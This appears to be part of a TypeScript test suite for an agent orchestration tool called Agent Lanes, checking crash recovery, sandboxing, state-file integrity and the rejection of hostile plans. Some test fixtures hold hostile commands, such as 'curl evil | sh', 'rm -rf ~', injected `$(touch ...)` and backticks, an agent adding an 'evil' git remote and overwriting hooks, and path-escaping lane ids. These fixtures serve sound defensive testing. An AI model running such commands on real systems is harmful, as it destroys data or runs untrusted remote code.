        `void (async () => { const s = await LanesSession.open({ cwd: ${JSON.stringify(c.repo.dir)}, face: 'VS Code', runDefaults: () => ({ worktreeRoot: ${JSON.stringify(c.wt)}, dieWithOrchestrator: true }) });\n` +
        `  const o = await s.run(); await o.run(); })();\nsetInterval(() => {}, 1000);\n`,
    );
    const child = spawn(process.execPath, ['--import', require.resolve('tsx'), host], { cwd: c.repo.dir, stdio: 'ignore' });
    const exited = new Promise((r) => child.on('exit', r));
    try {
      await waitFor(() => existsSync(pids) && readText(pids).includes(' '), 30000, 'the slow agent to start');
      const [agentPid, childPid] = pidsOf(pids);
      await waitFor(() => {
        const runs = path.join(c.common, 'lanes', 'runs');
        try {
          return readdirSync(runs).some((r) => (JSON.parse(readText(path.join(runs, r, 'state.json'))) as RunState).lanes[0]!.status === 'passed');
        } catch {
          return false;
        }
      }, 20000, 'quick to pass');
      child.kill('SIGKILL');
      await exited;
      await waitFor(() => !alive(agentPid!) && !alive(childPid!), 10000, 'the agents to die with the host');
      const s = await c.session();
      const runId = (await s.latestRunId())!;
      const truth = await inspectRun(c.common, runId);
      assert.equal(truth.status, 'interrupted');
      assert.equal(truth.orchestrator, 'dead');
      // Reported dead once the agent's group is gone (the watchdog that ran it ends a moment later).
      await waitFor(() => processesMentioning([pids]).length === 0, 5000, 'the agent group to end');
      // 'dead', or 'ours' when the container's init never reaps the agent's watchdog (a zombie):
      // that misreport is 18b below.
      assert.notEqual((await inspectRun(c.common, runId)).lanes.find((l) => l.id === 'slow')!.process, 'reused');
      const st = await lanes(c.repo.dir, ['status']);
      assert.match(st.out, /lanes run --resume/);
      const final = await (await s.run({ resume: runId })).run();
      assert.deepEqual(final.lanes.map((l) => [l.id, l.status, l.attempts.length]), [
        ['quick', 'passed', 1],
        ['slow', 'passed', 2],
      ]);
    } finally {
      child.kill('SIGKILL');
      for (const p of existsSync(pids) ? pidsOf(pids) : []) killTree(p, 'SIGKILL');
    }
    await checkInvariants(b);
  });

  it('18b. an agent that is a zombie (dead, not yet reaped) is reported dead, not running', async () => {
    const c = await ctx();
    const { state } = await runLanes(c, [{ id: 'a', agent: agent('write=x:x') }]);
    // `sleep 0.2 &` then exec: the parent never waits, so its child stays a zombie for 30 s.
    const parent = spawn('sh', ['-c', 'sleep 0.2 & exec sleep 30'], { stdio: 'ignore' });
    try {
      let zombie = 0;
      await waitFor(() => {
        for (const name of readdirSync('/proc')) {
          if (!/^\d+$/.test(name)) continue;
          try {
            const st = readFileSync(`/proc/${name}/stat`, 'utf8');
            const f = st.slice(st.lastIndexOf(')') + 2).split(' ');
            if (f[0] === 'Z' && Number(f[1]) === parent.pid) zombie = Number(name);
          } catch {
            /* gone */
          }
        }
        return zombie > 0;
      }, 5000, 'the zombie');
      const file = runPaths(c.common, state.runId).state;
      const forged = JSON.parse(readText(file)) as RunState;
      forged.status = 'running';
      forged.orchestrator = { pid: 999999, argv: ['node', 'gone'], startedAt: new Date().toISOString() };
      forged.lanes[0]!.status = 'running';
      const stat = readFileSync(`/proc/${zombie}/stat`, 'utf8');
      forged.lanes[0]!.process = { pid: zombie, argv: ['sleep', '0.2'], startTime: stat.slice(stat.lastIndexOf(')') + 2).split(' ')[19], startedAt: new Date().toISOString() };
      writeFileSync(file, JSON.stringify(forged));
      const b = c.baseline(['notes.txt']);
      assert.equal((await inspectRun(c.common, state.runId)).lanes[0]!.process, 'dead');
      const st = await lanes(c.repo.dir, ['status']);
      assert.doesNotMatch(st.out, /still running/);
      await checkInvariants(b);
    } finally {
      parent.kill('SIGKILL');
    }
  });

  it('19. a recorded PID that now belongs to another program is never killed', async () => {
    const c = await ctx();
    const { state } = await runLanes(c, [{ id: 'a', agent: agent('write=x:x') }, { id: 'b', agent: agent('write=y:y') }]);
    const other = spawn('sleep', ['60'], { stdio: 'ignore' });
    const other2 = spawn('sleep', ['61'], { stdio: 'ignore' });
    try {
      // The state says both lanes run, under PIDs that are now other programs.
      const file = runPaths(c.common, state.runId).state;
      const forged = JSON.parse(readText(file)) as RunState;
      forged.status = 'running';
      forged.orchestrator = { pid: 999999, argv: ['node', 'gone'], startedAt: new Date().toISOString() };
      forged.lanes[0]!.status = 'running';
      forged.lanes[0]!.process = { pid: other.pid!, argv: ['node', AGENT, 'write=x:x'], startedAt: new Date().toISOString() };
      forged.lanes[1]!.status = 'running';
      forged.lanes[1]!.process = { pid: other2.pid!, argv: ['sleep', '61'], startTime: '1', startedAt: new Date().toISOString() };
      writeFileSync(file, JSON.stringify(forged));
      const b = c.baseline(['notes.txt']);
      const st = await lanes(c.repo.dir, ['status']);
      assert.match(st.out, new RegExp(`a: its agent is gone \\(pid ${other.pid} now belongs to another program\\)`));
      assert.match(st.out, new RegExp(`b: its agent is gone \\(pid ${other2.pid} now belongs to another program\\)`), 'same command line, another start time');
      const resumed = await lanes(c.repo.dir, ['run', '--resume', '--json']);
      assert.equal(resumed.code, 0, resumed.err);
      const cl = await lanes(c.repo.dir, ['clean', '--force']);
      assert.equal(cl.code, 0, cl.err);
      assert.ok(alive(other.pid!) && alive(other2.pid!), 'unrelated processes are never killed');
      await checkInvariants(b);
    } finally {
      other.kill('SIGKILL');
      other2.kill('SIGKILL');
    }
  });

  it('20. an agent hangs: its timeout kills the whole process tree (unsandboxed and sandboxed)', async () => {
    const c = await ctx();
    const pids = path.join(c.scratch(), 'pids');
    const marker = `lanes-fault-20-${process.pid}-${Date.now()}`;
    const stay = `setInterval(()=>{},1000)`;
    writePlan(c.repo, [
      { id: 'plain', timeoutMinutes: 0.03, agent: agent(`hang=${pids}`) },
      { id: 'boxed', timeoutMinutes: 0.05, agent: { command: ['sh', '-c', `node -e '${stay}' ${marker}-child & node -e '${stay}' ${marker}-agent; wait`] } },
    ]);
    // The plain lane runs unsandboxed (real PIDs to check); the boxed one in the default sandbox.
    const plan = JSON.parse(readText(path.join(c.repo.dir, '.lanes/plan.json')));
    plan.lanes[0].isolation = 'none';
    writeFileSync(path.join(c.repo.dir, '.lanes/plan.json'), JSON.stringify(plan));
    c.repo.commitAll('isolation');
    const b = c.baseline(['notes.txt']);
    const s = await c.session();
    const o = await s.run();
    const ended = o.run();
    await waitFor(() => processesMentioning([`${marker}-child `, `${marker}-agent `]).length >= 2, 30000, 'the boxed agent and its child');
    const state = await ended;
    assert.deepEqual(statusOf(state), { plain: 'timed-out', boxed: 'timed-out' });
    const [agentPid, childPid] = pidsOf(pids);
    await waitFor(() => !alive(agentPid!) && !alive(childPid!), 5000, 'the plain tree to die');
    await waitFor(() => processesMentioning([marker]).length === 0, 5000, 'the boxed tree to die');
    await checkInvariants(b);
  });

  it('21. an agent kills or signals other processes: the orchestrator survives and reports it', async () => {
    const c = await ctx();
    const pids = path.join(c.scratch(), 'victim-pids');
    const signals: string[] = [];
    const onUsr2 = () => signals.push('SIGUSR2');
    process.on('SIGUSR2', onUsr2);
    try {
      writePlan(c.repo, [
        { id: 'victim', agent: agent(`hang=${pids}`) },
        { id: 'killer', agent: { command: ['sh', '-c', `while [ ! -s ${pids} ]; do sleep 0.05; done; kill -9 $(cut -d' ' -f1 ${pids}); echo done > k.txt`] } },
        // In the sandbox: tries to signal the orchestrator (this process) by its PID.
        { id: 'boxed', agent: { command: ['sh', '-c', `kill -USR2 ${process.pid} 2> kill-err.txt; echo "$?" > kill-rc.txt`] } },
      ]);
      const plan = JSON.parse(readText(path.join(c.repo.dir, '.lanes/plan.json')));
      plan.lanes[0].isolation = 'none';
      plan.lanes[1].isolation = 'none';
      writeFileSync(path.join(c.repo.dir, '.lanes/plan.json'), JSON.stringify(plan));
      c.repo.commitAll('isolation');
      const b = c.baseline(['notes.txt']);
      const s = await c.session();
      const state = await (await s.run()).run();
      const [victimPid, victimChild] = pidsOf(pids);
      assert.equal(state.status, 'finished', 'the run ended normally');
      assert.deepEqual(statusOf(state), { victim: 'failed', killer: 'passed', boxed: 'passed' });
      assert.match(state.lanes[0]!.reason!, /SIGKILL/, `reported: ${state.lanes[0]!.reason}`);
      await waitFor(() => !alive(victimPid!) && !alive(victimChild!), 5000, "the killed agent's leftover child to be stopped");
      if (state.lanes[2]!.isolation === 'bwrap') {
        assert.deepEqual(signals, [], 'a sandboxed agent cannot signal the orchestrator');
        assert.notEqual(c.repo.git('show', `${state.lanes[2]!.head}:kill-rc.txt`), '0');
      }
      await checkInvariants(b);
    } finally {
      process.off('SIGUSR2', onUsr2);
      for (const p of existsSync(pids) ? pidsOf(pids) : []) killTree(p, 'SIGKILL');
    }
  });

  it('22. a corrupt state file is reported, never reset; two writers are refused; writes are atomic with a version', async () => {
    const c = await ctx();
    const { state } = await runLanes(c, [{ id: 'a', agent: agent('write=x:x') }]);
    const heads = state.lanes.map((l) => l.head!);
    const file = runPaths(c.common, state.runId).state;
    assert.equal(JSON.parse(readText(file)).stateVersion, 1);
    assert.deepEqual(readdirSync(path.dirname(file)).filter((f) => f.endsWith('.tmp')), []);
    const truncated = readText(file).slice(0, 200);
    writeFileSync(file, truncated);
    const b = c.baseline(['notes.txt']);
    const st = await lanes(c.repo.dir, ['status']);
    assert.equal(st.code, 1);
    assert.match(st.err, /state file is corrupt/);
    const all = await lanes(c.repo.dir, ['status', '--all', '--json']);
    assert.equal(all.code, 0);
    assert.match(JSON.parse(all.out).unreadable[0].error, /state file is corrupt/);
    const cl = await lanes(c.repo.dir, ['clean', '--force', '--json']);
    assert.equal(cl.code, 0, cl.err);
    assert.match(JSON.parse(cl.out).actions[0].detail, /state file is corrupt/);
    const res = await lanes(c.repo.dir, ['run', '--resume', state.runId]);
    assert.equal(res.code, 1);
    assert.match(res.err, /state file is corrupt/);
    // Never silently reset: the bytes are where they were, or set aside next to it.
    const kept = readdirSync(path.dirname(file)).filter((f) => f.startsWith('state.json'));
    assert.ok(kept.some((f) => readText(path.join(path.dirname(file), f)) === truncated), JSON.stringify(kept));
    // A newer version is refused, not overwritten.
    writeFileSync(file, JSON.stringify({ ...state, stateVersion: 2 }));
    const newer = await lanes(c.repo.dir, ['status']);
    assert.match(newer.err, /written by a newer Agent Lanes \(state version 2\); update Agent Lanes/);
    assert.equal(JSON.parse(readText(file)).stateVersion, 2);
    writeFileSync(file, JSON.stringify(state));
    // Two windows: while one process writes a run's state, a second writer is refused.
    const pids = path.join(c.scratch(), 'pids');
    writePlan(c.repo, [{ id: 'h', agent: agent(`hang=${pids}`) }], { isolation: 'none' });
    const s1 = await c.session();
    const o = await s1.run();
    const ended = o.run();
    try {
      await waitFor(() => existsSync(pids), 20000, 'the agent');
      const s2 = await LanesSession.open({ cwd: c.repo.dir, face: 'second window' });
      await assert.rejects(s2.run({ resume: o.runId, worktreeRoot: c.wt }), (e: unknown) => e instanceof BusyError && /in use by|is active/.test(e.message));
      await assert.rejects(s2.store.claim(o.runId, 'second window'), BusyError);
    } finally {
      o.cancel();
      await ended;
    }
    await checkInvariants(b, { extraHeads: heads });
  });

  it('22b. a corrupt state file is set aside by "lanes run --resume", as "lanes status" promises', async () => {
    const c = await ctx();
    const { state } = await runLanes(c, [{ id: 'a', agent: agent('write=x:x') }]);
    const file = runPaths(c.common, state.runId).state;
    const truncated = readText(file).slice(0, 200);
    writeFileSync(file, truncated);
    const st = await lanes(c.repo.dir, ['status']);
    assert.match(st.err, /"lanes run --resume" will set it aside/);
    const b = c.baseline(['notes.txt']);
    await lanes(c.repo.dir, ['run', '--resume', state.runId]);
    const aside = readdirSync(path.dirname(file)).filter((f) => f.startsWith('state.json.corrupt-'));
    assert.equal(aside.length, 1, `set aside: ${JSON.stringify(readdirSync(path.dirname(file)))}`);
    assert.equal(readText(path.join(path.dirname(file), aside[0]!)), truncated);
    await checkInvariants(b, { extraHeads: state.lanes.map((l) => l.head!) });
  });

  it('23. disk full during a run: a clear error; no half-written state taken as truth', async function () {
    if (!(await sandboxAvailability(process.env)).tool) this.skip();
    const c = await ctx();
    const lanesDir = path.join(c.common, 'lanes');
    mkdirSync(lanesDir, { recursive: true });
    const out = c.scratch();
    // The agent fills the (small) file system that holds the run's state. Again after a pause:
    // a state write under way while it fills frees the old file's page when it lands, and the
    // next write (under a page) would fit there.
    const fill = (n: number) => `head -c 50000000 /dev/zero > "$LANES_REPO/.git/lanes/filler${n}" 2>/dev/null`;
    writePlan(c.repo, [{ id: 'filler', agent: { command: ['sh', '-c', `${fill(1)}; sleep 0.3; ${fill(2)}; sleep 0.3; ${fill(3)}; echo x > x.txt; true`] } }], { isolation: 'none' });
    const b = c.baseline(['notes.txt']);
    const node = `${process.execPath} --import ${require.resolve('tsx')} ${CLI}`;
    const script = [
      `${node} run --worktree-root ${c.wt} > ${out}/run.out 2> ${out}/run.err; echo $? > ${out}/run.rc`,
      `rm -f ${lanesDir}/filler1 ${lanesDir}/filler2 ${lanesDir}/filler3`,
      `${node} status --json > ${out}/status.json 2> ${out}/status.err`,
      `cp ${lanesDir}/runs/*/state.json ${out}/state.json`,
    ].join('\n');
    // A 400 KB tmpfs over .git/lanes, only for this process tree (bubblewrap, no other isolation).
    execFileSync('bwrap', ['--dev-bind', '/', '/', '--size', String(400 * 1024), '--tmpfs', lanesDir, 'sh', '-c', script], { cwd: c.repo.dir, stdio: 'ignore', timeout: 90000 });
    assert.equal(readText(`${out}/run.rc`).trim(), '1', readText(`${out}/run.out`) + readText(`${out}/run.err`));
    assert.match(readText(`${out}/run.err`) + readText(`${out}/run.out`), /could not write the run's state \(.*state\.json\): .*(no space|ENOSPC|disk)/i);
    const state = JSON.parse(readText(`${out}/state.json`)) as RunState; // whole JSON: old or new, never half
    const status = JSON.parse(readText(`${out}/status.json`));
    assert.notEqual(status.run.status, 'finished', 'a run whose state could not be written is not shown as finished');
    const heads = state.lanes.map((l) => l.head).filter((h): h is string => !!h);
    await checkInvariants(b, { extraHeads: heads });
  });

  // ——— Agents misbehaving ———

  it('24. an agent writes into the user\'s checkout: flagged loudly (and refused by the sandbox)', async () => {
    const c = await ctx();
    writePlan(c.repo, [{ id: 'rogue', agent: agent('escape=stray.txt', 'write=x:x') }], { isolation: 'none' });
    const b = c.baseline(['notes.txt', 'README.md']);
    const { state, events } = await runPlan(c.repo, { worktreeRoot: c.wt });
    const w = state.lanes[0]!.warnings.find((x) => x.includes('stray.txt'));
    assert.match(w ?? '', /^WARNING: the main checkout changed: stray\.txt while lane rogue ran\. If you did not make this change, an agent wrote outside its worktree\./);
    assert.ok(events.some((e) => e.type === 'warning' && e.lane === 'rogue'));
    const cli = await lanes(c.repo.dir, ['status', '--json']);
    assert.ok(JSON.parse(cli.out).run.lanes[0].warnings.some((x: string) => x.includes('stray.txt')));
    rmSync(path.join(c.repo.dir, 'stray.txt'));
    // The same agent in the sandbox: the write is refused, the checkout stays as it was.
    writePlan(c.repo, [{ id: 'boxed', agent: agent('escape=stray2.txt', 'write=x:x') }]);
    const b2 = c.baseline(['notes.txt', 'README.md']);
    const boxed = await runPlan(c.repo, { worktreeRoot: c.wt });
    if (boxed.state.lanes[0]!.isolation === 'bwrap') {
      assert.equal(existsSync(path.join(c.repo.dir, 'stray2.txt')), false);
      assert.equal(boxed.state.lanes[0]!.status, 'failed');
    } else {
      assert.ok(boxed.state.lanes[0]!.warnings.some((x) => x.includes('stray2.txt')));
    }
    await checkInvariants(b);
    await checkInvariants(b2);
  });

  it('25. an agent changes shared git state (config, hooks, remotes): detected and reported', async () => {
    const c = await ctx();
    writePlan(c.repo, [
      {
        id: 'meddler',
        agent: { command: ['sh', '-c', 'git -C "$LANES_REPO" remote add evil https://example.invalid/x.git && printf "#!/bin/sh\\nexit 0\\n" > "$LANES_REPO/.git/hooks/pre-push" && echo x > x.txt'] },
      },
    ], { isolation: 'none' });
    const b = c.baseline(['notes.txt']);
    const { state } = await runPlan(c.repo, { worktreeRoot: c.wt });
    const w = state.lanes[0]!.warnings.join('\n');
    assert.match(w, /\.git\/config changed/);
    assert.match(w, /\.git\/hooks changed/);
    assert.match(w, /while lane meddler ran/);
    await checkInvariants(b, { sharedGitMayChange: true });
  });

  it('25b. child processes never inherit GIT_DIR / GIT_WORK_TREE, even when lanes itself runs with them set', async () => {
    const c = await ctx();
    const dir = c.scratch();
    writePlan(c.repo, [{ id: 'a', agent: agent(`env-to=${dir}/agent-env.json`, 'write=x:x'), verify: `env | grep '^GIT_' > ${dir}/verify-env.txt; true` }]);
    const b = c.baseline(['notes.txt']);
    // As from a git hook or an alias: git exports these to the programs it runs.
    const r = lanesProcess(c.repo.dir, ['run', '--worktree-root', c.wt, '--json'], {
      GIT_DIR: path.join(c.repo.dir, '.git'),
      GIT_WORK_TREE: c.repo.dir,
      GIT_INDEX_FILE: path.join(c.repo.dir, '.git', 'index'),
    });
    assert.equal(r.code, 0, r.err + r.out);
    const env = JSON.parse(readText(`${dir}/agent-env.json`));
    assert.equal(env.GIT_DIR, undefined, 'the agent inherited GIT_DIR');
    assert.equal(env.GIT_WORK_TREE, undefined, 'the agent inherited GIT_WORK_TREE');
    assert.equal(env.GIT_INDEX_FILE, undefined, 'the agent inherited GIT_INDEX_FILE');
    assert.doesNotMatch(readText(`${dir}/verify-env.txt`), /^GIT_(DIR|WORK_TREE|INDEX_FILE)=/m);
    await checkInvariants(b);
  });

  it('26. an agent that changes nothing, or claims success while its verify fails, is reported as such, never "passed"', async () => {
    const c = await ctx();
    writePlan(c.repo, [
      { id: 'idle', agent: agent('sleep=10') },
      { id: 'boaster', agent: { command: ['sh', '-c', 'echo x > x.txt; echo "All tests pass. Done!"; exit 0'] }, verify: 'echo "1 failing" >&2; exit 1' },
      { id: 'honest', agent: agent('write=h.txt:h'), verify: 'test -f h.txt' },
    ]);
    const b = c.baseline(['notes.txt']);
    const r = await lanes(c.repo.dir, ['run', '--worktree-root', c.wt, '--json']);
    assert.equal(r.code, 1, 'not every lane passed');
    const out = JSON.parse(r.out).lanes as { id: string; status: string; reason: string; verify: { passed: boolean } | null }[];
    const by = Object.fromEntries(out.map((l) => [l.id, l]));
    assert.equal(by.idle!.status, 'failed');
    assert.equal(by.idle!.reason, 'the agent exited 0 but changed nothing (no commits and no changes in the worktree)');
    assert.equal(by.boaster!.status, 'failed');
    assert.match(by.boaster!.reason, /^verify `echo "1 failing" >&2; exit 1` failed: exit code 1/);
    assert.equal(by.boaster!.verify!.passed, false);
    assert.equal(by.honest!.status, 'passed');
    const text = await lanes(c.repo.dir, ['status']);
    assert.match(text.out, /idle\s+✗ failed/);
    assert.match(text.out, /boaster\s+✗ failed/);
    await checkInvariants(b);
  });

  // ——— Bad plan files ———

  it('27. hostile or unusable lane ids are rejected with the rule they break, before git or the file system', async () => {
    const c = await ctx();
    const b = c.baseline(['notes.txt']);
    const refsBefore = c.repo.git('for-each-ref');
    const cases: [unknown[], RegExp][] = [
      [[{ id: '-rf' }], /lanes\[0\]\.id: .*must not start with "-"/],
      [[{ id: '..' }], /lanes\[0\]\.id: .*must not contain "\.\."/],
      [[{ id: '../../escape' }], /lanes\[0\]\.id: .*must not contain "\.\."/],
      [[{ id: 'a/b' }], /lanes\[0\]\.id: .*must not contain "\/"/],
      [[{ id: 'x.lock' }], /lanes\[0\]\.id: .*must not end with "\.lock"/],
      [[{ id: 'a@{1}' }], /lanes\[0\]\.id: .*must not contain "@\{"/],
      [[{ id: 'a b' }], /lanes\[0\]\.id: .*must not contain spaces/],
      [[{ id: 'api' }, { id: 'API' }], /lanes\[1\]\.id: .*differs from "api" \(lanes\[0\]\) only in case/],
      [[{ id: 'a' }, { id: 'a/b' }], /lanes\[1\]\.id: .*must not contain "\/"/],
    ];
    for (const [defs, rule] of cases) {
      const plan = { version: 1, goal: 'g', lanes: defs.map((d) => ({ brief: 'b', agent: { command: ['node', AGENT, 'write=x:x'] }, ...(d as object) })) };
      writeFileSync(path.join(c.repo.dir, 'hostile.json'), JSON.stringify(plan, null, 2));
      const v = await lanes(c.repo.dir, ['validate', 'hostile.json']);
      assert.equal(v.code, 1, JSON.stringify(defs));
      assert.match(v.err, rule);
      const r = await lanes(c.repo.dir, ['run', '--plan', 'hostile.json', '--worktree-root', c.wt]);
      assert.equal(r.code, 1);
      assert.match(r.err, /the plan is invalid/);
      await assert.rejects(Orchestrator.prepare({ cwd: c.repo.dir, planFile: 'hostile.json', worktreeRoot: c.wt }), (e: unknown) => e instanceof RunError && e.reason === 'invalidPlan');
    }
    rmSync(path.join(c.repo.dir, 'hostile.json'));
    assert.equal(c.repo.git('for-each-ref'), refsBefore, 'no ref made');
    assert.equal(c.repo.git('worktree', 'list').split('\n').length, 1, 'no worktree made');
    assert.deepEqual(readdirSync(c.wt), [], 'nothing in the worktree root');
    assert.equal(existsSync(path.join(c.wt, '..', 'escape')), false);
    assert.equal(existsSync(path.join(c.common, 'lanes', 'runs')), false, 'no run folder');
    await checkInvariants(b);
  });

  it('28. brief and goal text with quotes, $(), backticks, newlines and non-ASCII reach the agent unchanged and execute nothing', async () => {
    const c = await ctx();
    const dir = c.scratch();
    const pwned = path.join(dir, 'pwned');
    const hostile = `Fix "quotes" and 'single' $(touch ${pwned}) \`touch ${pwned}2\` ; rm -rf / && echo \\n\nline two {lane} \${HOME} ünïcødé 日本語 🚀`;
    writePlan(c.repo, [{ id: 'h', brief: hostile, agent: agent(`brief-to=${dir}/argv.txt`, '{brief}', `env-to=${dir}/env.json`, `copy-brief=${dir}/file.txt`, 'write=x:x') }], {
      goal: `goal with $(touch ${pwned}3) and \`touch ${pwned}4\` "quoted"`,
    });
    const b = c.baseline(['notes.txt']);
    const { state } = await runPlan(c.repo, { worktreeRoot: c.wt });
    assert.equal(state.lanes[0]!.status, 'passed', state.lanes[0]!.reason);
    const brief = readText(state.lanes[0]!.attempts[0]!.briefFile);
    assert.ok(brief.includes(hostile), 'the brief text is verbatim in the brief');
    assert.ok(brief.includes(`goal with $(touch ${pwned}3) and \`touch ${pwned}4\` "quoted"`));
    assert.equal(readText(`${dir}/argv.txt`), brief, 'as one argv element');
    assert.equal(readText(`${dir}/file.txt`), brief, 'as a file');
    assert.equal(JSON.parse(readText(`${dir}/env.json`)).LANES_BRIEF, brief, 'as an environment variable');
    for (const p of [pwned, `${pwned}2`, `${pwned}3`, `${pwned}4`]) assert.equal(existsSync(p), false, `${p} was executed`);
    await checkInvariants(b);
  });

  it('29. cycles, unknown dependencies, duplicate ids, wrong types, unknown fields, invalid JSON: one message per error, with its path and line', async () => {
    const c = await ctx();
    const b = c.baseline(['notes.txt']);
    const text = JSON.stringify(
      {
        version: 1,
        goal: 'g',
        lanes: [
          { id: 'a', brief: 'x', dependsOn: ['b'] },
          { id: 'b', brief: 'y', dependsOn: ['a'] },
          { id: 'c', brief: 'z', dependsOn: ['nope'] },
          { id: 'c', brief: 'dup' },
          { id: 'd', brief: 'w', retries: 'two' },
          { id: 'e', brief: 'v', depends_on: [] },
        ],
      },
      null,
      2,
    );
    writeFileSync(path.join(c.repo.dir, 'bad.json'), text);
    const r = await lanes(c.repo.dir, ['validate', 'bad.json', '--json']);
    assert.equal(r.code, 1);
    const errors = JSON.parse(r.out).errors as { path: string; code: string; message: string; line?: number }[];
    const lines = text.split('\n');
    const expect: [string, RegExp][] = [
      ['lanes[0].dependsOn[0]', /dependency cycle: a -> b -> a/],
      ['lanes[2].dependsOn[0]', /unknown lane "nope"/],
      ['lanes[3].id', /duplicate lane id "c"/],
      ['lanes[4].retries', /expected a whole number, got the string "two"/],
      ['lanes[5].depends_on', /unknown field "depends_on"; did you mean "dependsOn"\?/],
    ];
    assert.equal(errors.length, expect.length, JSON.stringify(errors, null, 1));
    for (const [p, re] of expect) {
      const e = errors.find((x) => x.path === p);
      assert.ok(e, `an error at ${p}: ${JSON.stringify(errors)}`);
      assert.match(e.message, re);
      assert.ok(e.line && e.line >= 1 && e.line <= lines.length, `${p} has a line`);
    }
    assert.match(lines[errors.find((x) => x.path === 'lanes[2].dependsOn[0]')!.line! - 1]!, /"nope"|"dependsOn"/);
    const t = await lanes(c.repo.dir, ['validate', 'bad.json']);
    assert.match(t.err, /bad\.json:\d+:\d+: error lanes\[3\]\.id: duplicate lane id "c"/);
    // Invalid JSON: one error, with line and column.
    writeFileSync(path.join(c.repo.dir, 'broken.json'), '{\n  "version": 1,\n  "goal": "g",\n  "lanes": [\n}\n');
    const j = await lanes(c.repo.dir, ['validate', 'broken.json', '--json']);
    assert.equal(j.code, 1);
    const je = JSON.parse(j.out).errors;
    assert.equal(je.length, 1);
    assert.equal(je[0].code, 'json-syntax');
    assert.equal(je[0].line, 5);
    assert.match(je[0].message, /line 5, column 1/);
    // Nothing of it reaches a run.
    const run = await lanes(c.repo.dir, ['run', '--plan', 'bad.json', '--worktree-root', c.wt]);
    assert.equal(run.code, 1);
    assert.equal(existsSync(path.join(c.common, 'lanes', 'runs')), false);
    assert.equal(validatePlanText(text).ok, false);
    await checkInvariants(b);
  });

  it('30. commands changed since approval (or an untrusted folder): nothing runs until approved', async () => {
    const plan = validatePlanText(
      JSON.stringify({ version: 1, goal: 'g', verify: 'npm test', lanes: [{ id: 'a', brief: 'x', agent: { command: ['node', 'agent.js'] } }, { id: 'b', brief: 'y', agent: 'claude', verify: 'make check' }] }),
    ).plan as Plan;
    const sandboxed = { a: { isolation: 'bwrap' as const, network: true }, b: { isolation: 'bwrap' as const, network: true } };
    const key = approvalKey(commandsOf(plan, 'claude', {}, sandboxed));
    // Brief edits do not ask again; any command, the agent settings or the isolation do.
    assert.equal(approvalKey(commandsOf({ ...plan, lanes: plan.lanes.map((l) => ({ ...l, brief: `${l.brief} edited` })) }, 'claude', {}, sandboxed)), key);
    assert.notEqual(approvalKey(commandsOf({ ...plan, verify: 'npm test; curl evil | sh' }, 'claude', {}, sandboxed)), key);
    assert.notEqual(approvalKey(commandsOf({ ...plan, lanes: [plan.lanes[0]!, { ...plan.lanes[1]!, verify: 'make check && rm -rf ~' }] }, 'claude', {}, sandboxed)), key);
    assert.notEqual(approvalKey(commandsOf({ ...plan, lanes: [{ ...plan.lanes[0]!, agent: { command: ['node', 'other.js'] } }, plan.lanes[1]!] }, 'claude', {}, sandboxed)), key);
    assert.notEqual(approvalKey(commandsOf(plan, 'claude', { claude: ['claude', '--dangerously-skip-permissions', '-p', '{brief}'] }, sandboxed)), key);
    assert.notEqual(approvalKey(commandsOf(plan, 'claude', {}, { ...sandboxed, a: { isolation: 'none', network: true } })), key, 'turning the sandbox off asks again');
    assert.notEqual(approvalKey(commandsOf(plan, 'claude', {}, { ...sandboxed, a: { isolation: 'bwrap', network: false } })), key);

    // Planning writes nothing; a declined (or not yet given) approval leaves nothing behind.
    const c = await ctx();
    const marker = path.join(c.scratch(), 'agent-ran');
    writePlan(c.repo, [{ id: 'a', agent: agent(`env-to=${marker}`, 'write=x:x'), verify: `touch ${marker}.verify` }], { worktree: { setup: [`touch ${marker}.setup`] } });
    const b = c.baseline(['notes.txt']);
    const refs = c.repo.git('for-each-ref');
    const asked: string[][] = [];
    const s = await c.session({ approve: async (req) => (asked.push(commandsOf(req.plan, 'claude', {}, req.isolation)), false) });
    const req = await s.planRun();
    assert.equal(existsSync(path.join(c.common, 'lanes')), false, 'planRun wrote nothing');
    await assert.rejects(s.startRun(req), NotApproved);
    assert.equal(asked.length, 1);
    assert.match(asked[0]![0]!, /^a \[sandboxed \(bubblewrap\)\]: node .*agent\.js|^a \[NOT sandboxed\]: node /);
    assert.deepEqual(await s.store.list(), []);
    assert.equal(existsSync(path.join(c.common, 'lanes', 'runs')), false);
    assert.equal(c.repo.git('for-each-ref'), refs);
    assert.equal(c.repo.git('worktree', 'list').split('\n').length, 1);
    assert.deepEqual(readdirSync(c.wt), []);
    for (const m of [marker, `${marker}.verify`, `${marker}.setup`]) assert.equal(existsSync(m), false, `${m}: something ran`);
    await checkInvariants(b);
  });
});
